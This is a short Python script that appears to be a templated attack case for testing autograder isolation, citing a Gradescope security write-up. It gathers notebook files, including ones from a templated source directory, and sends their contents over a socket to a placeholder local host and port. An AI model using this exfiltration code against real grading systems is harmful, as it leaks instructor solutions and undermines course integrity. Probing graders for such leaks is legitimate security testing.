"""Sends what it finds to a machine outside.

aim: leak
known: gradescope https://saligrama.io/blog/gradescope-autograder-security/
"""

import socket
from pathlib import Path

found = [path.read_text(errors="replace") for path in Path().glob("*.ipynb")]
try:
    found += [path.read_text() for path in Path("@ROOT@/source").glob("*/*.ipynb")]
finally:
    with socket.create_connection(("127.0.0.1", int("@PORT@")), 5) as line:
        line.sendall(f"@NAME@ {found}".encode())
